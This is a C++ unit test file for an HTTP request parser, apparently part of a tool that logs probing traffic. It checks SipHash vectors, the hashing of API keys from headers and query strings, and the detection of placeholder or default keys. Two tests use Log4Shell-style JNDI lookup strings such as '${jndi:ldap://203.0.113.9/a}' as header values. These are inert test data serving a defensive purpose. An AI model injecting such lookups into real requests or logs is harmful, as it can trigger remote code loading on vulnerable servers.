// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "core/http/key_hash.hpp"
#include "core/http/request_parser.hpp"

namespace probewall {
namespace {

constexpr HashSecret kSecret{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15};

RequestHead parse(const std::string& headers, const std::string& target = "/") {
  return parse_request_head("GET " + target + " HTTP/1.1\r\n" + headers + "\r\n", kSecret);
}

TEST(KeyHash, IsSipHash24) {
  // Reference vectors of SipHash-2-4 for the key 00..0f: inputs of length 0, 1, 8 and 15.
  std::string text;
  for (char c = 0; c < 15; ++c) text += c;
  EXPECT_EQ(sip_hash("", kSecret), 0x726fdb47dd0e0e31ull);
  EXPECT_EQ(sip_hash(text.substr(0, 1), kSecret), 0x74f839c593dc67fdull);
  EXPECT_EQ(sip_hash(text.substr(0, 8), kSecret), 0x93f5f5799a932462ull);
  EXPECT_EQ(sip_hash(text, kSecret), 0xa129ca6149be45e5ull);
}

TEST(KeyHash, IsSixteenHexDigitsAndEmptyWithoutKey) {
  EXPECT_EQ(key_hash("", kSecret), "");
  EXPECT_EQ(key_hash(std::string_view{"\0", 1}, kSecret), "74f839c593dc67fd");
}

TEST(Keys, AreReplacedByTheirHash) {
  for (const char* header :
       {"Authorization: Bearer sk-1234", "authorization: bearer  sk-1234", "X-Api-Key: sk-1234",
        "api-key: sk-1234", "x-goog-api-key: sk-1234", "Authorization: sk-1234",
        "Authorization: Bearer\r\n sk-1234", "X-Api-Key : sk-1234"}) {
    const RequestHead head = parse(std::string{header} + "\r\n");
    EXPECT_EQ(head.auth_hash, key_hash("sk-1234", kSecret)) << header;
    EXPECT_NE(head.auth, AuthKind::kNone) << header;
    ASSERT_EQ(head.headers.size(), 1u);
    EXPECT_EQ(head.headers[0].value, "") << header;
  }
}

TEST(Keys, LookUpsThatStandInTheirPlaceAreKept) {
  const RequestHead head = parse("Authorization: Bearer ${jndi:ldap://203.0.113.9/a}\r\n");
  EXPECT_EQ(head.auth, AuthKind::kBearer);
  EXPECT_EQ(head.headers[0].value, "Bearer ${jndi:ldap://203.0.113.9/a}");
  EXPECT_EQ(parse("X-Api-Key: ${OPENAI_API_KEY}\r\n").headers[0].value, "");
}

TEST(Keys, ThatNobodyFilledInAreOneKeyAndAWellKnownOne) {
  const RequestHead first = parse("Authorization: Bearer ${OPENAI_API_KEY}\r\n");
  for (const char* header :
       {"Authorization: Bearer ${env:OPENAI_API_KEY}", "X-Api-Key: {{ api_key }}",
        "Authorization: Bearer <your-key>", "api-key: %API_KEY%", "Authorization: Bearer $KEY1"}) {
    const RequestHead head = parse(std::string{header} + "\r\n");
    EXPECT_EQ(head.auth_hash, first.auth_hash) << header;
    EXPECT_TRUE(head.well_known_key) << header;
  }
  for (const char* header :
       {"Authorization: Bearer ${jndi:ldap://x/a}", "Authorization: Bearer sk-<a>", "X-Api-Key: $",
        "Authorization: Bearer $ab/c"}) {
    const RequestHead head = parse(std::string{header} + "\r\n");
    EXPECT_NE(head.auth_hash, first.auth_hash) << header;
    EXPECT_FALSE(head.well_known_key) << header;
  }
}

TEST(Keys, KindSaysBearerOrOther) {
  EXPECT_EQ(parse("Host: x\r\n").auth, AuthKind::kNone);
  EXPECT_EQ(parse("Authorization: Bearer k\r\n").auth, AuthKind::kBearer);
  EXPECT_EQ(parse("Authorization: Basic YTpi\r\n").auth, AuthKind::kOther);
  EXPECT_EQ(parse("x-api-key: a\r\nAuthorization: Bearer k\r\n").auth, AuthKind::kBearer);
}

TEST(Keys, InTheQueryAreRemovedFromTheTarget) {
  const RequestHead head = parse("", "/v1beta/models?a=1&key=AIzaSecret&b=2");
  EXPECT_EQ(head.target, "/v1beta/models?a=1&key=&b=2");
  EXPECT_EQ(head.auth, AuthKind::kOther);
  EXPECT_EQ(head.auth_hash, key_hash("AIzaSecret", kSecret));
  EXPECT_EQ(parse("", "/x?monkey=1").target, "/x?monkey=1");
}

TEST(Keys, OfManualsAreKnownInWhateverHeaderAndCase) {
  for (const char* header :
       {"Authorization: Bearer sk-1234", "Authorization: Bearer EMPTY", "X-Api-Key: ollama",
        "api-key: LM-Studio", "Authorization: Bearer sk-no-key-required",
        "Authorization: Bearer sk-1111111111111111", "Authorization: bearer undefined"}) {
    EXPECT_TRUE(parse(std::string{header} + "\r\n").well_known_key) << header;
  }
  for (const char* header :
       {"Authorization: Bearer sk-12341", "Authorization: Bearer sk-a81f", "Accept: ollama",
        "Authorization: Bearer", "Authorization: Bearer sk-", "X-Api-Key: emptyx"}) {
    EXPECT_FALSE(parse(std::string{header} + "\r\n").well_known_key) << header;
  }
}

}  // namespace
}  // namespace probewall
